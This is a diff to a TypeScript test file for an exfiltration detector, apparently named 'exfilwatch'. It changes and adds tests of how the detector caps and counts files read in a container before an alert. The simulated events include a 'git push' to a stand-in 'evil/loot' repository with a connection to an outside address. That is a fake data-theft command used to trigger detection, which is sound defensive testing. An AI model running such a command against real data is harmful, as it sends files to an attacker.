@@ -39,25 +39,40 @@ describe('state caps', () => {
     );
   });
 
-  it('files beyond maxFilesPerContainer are pruned (smallest first): counts stay right, the biggest reads stay listed', async () => {
-    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxFilesPerContainer: 32 } } });
+  it('files beyond maxFilesPerContainer leave the top list (smallest first): the biggest reads stay listed with their exact bytes, the distinct count is estimated', async () => {
+    const { correlator, metrics } = makeCorrelator({ config: { caps: { maxFilesPerContainer: 8 } } });
     const s = new Scenario();
     const c = s.container();
     const sh = s.init(c);
     s.read(sh, '/data/huge.db', 40 * MiB);
     s.readMany(sh, '/data/small', 1000, 1000, 1);
     s.read(sh, '/data/big.tar', 30 * MiB);
+    s.read(sh, '/data/huge.db', 2 * MiB);
     const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: sh });
     s.connect(git, '140.82.112.3', 443);
     const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
     expect(alerts).toHaveLength(1);
-    expect(alerts[0]!.reads.files).toBe(1002);
-    expect(alerts[0]!.reads.bytes).toBe(70 * MiB + 1_000_000);
+    // Past ~100 files the count is a sketch's estimate (docs/detection.md): within a few percent.
+    expect(Math.abs(alerts[0]!.reads.files - 1002)).toBeLessThanOrEqual(30);
+    expect(alerts[0]!.reads.bytes).toBe(72 * MiB + 1_000_000);
     expect(alerts[0]!.reads.top.slice(0, 2)).toEqual([
-      { path: '/data/huge.db', bytes: 40 * MiB },
+      { path: '/data/huge.db', bytes: 42 * MiB },
       { path: '/data/big.tar', bytes: 30 * MiB },
     ]);
-    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'file' })).toBeGreaterThan(900);
+    expect(await counterValue(metrics, 'exfilwatch_state_evictions_total', { kind: 'file' })).toBe(1002 - 8);
+  });
+
+  it('distinct files are counted exactly below the sketch threshold, whatever the top-list cap', () => {
+    const { correlator } = makeCorrelator({ config: { caps: { maxFilesPerContainer: 4 } } });
+    const s = new Scenario();
+    const c = s.container();
+    const sh = s.init(c);
+    s.readMany(sh, '/srv/app/f', 90, 1000, 1);
+    s.readMany(sh, '/srv/app/f', 90, 1000, 1);
+    const git = s.exec(c, '/usr/bin/git', 'push https://github.com/evil/loot.git', { parent: sh });
+    s.connect(git, '140.82.112.3', 443);
+    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
+    expect(alerts.map((a) => [a.reads.files, a.reads.bytes, a.reads.top.length])).toEqual([[90, 180_000, 4]]);
   });
 
   it('sockets beyond maxSockets are evicted and counted', async () => {
